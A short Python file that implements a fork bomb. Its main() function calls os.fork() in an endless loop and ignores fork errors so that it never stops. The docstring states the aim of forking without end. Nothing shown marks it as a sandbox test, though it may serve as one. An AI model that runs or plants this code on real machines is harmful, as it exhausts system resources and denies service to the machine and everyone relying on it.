"""Every process forks without end, whatever it is told."""

import os


def main():
    """Fork."""
    while True:
        try:
            os.fork()
        except OSError:
            continue
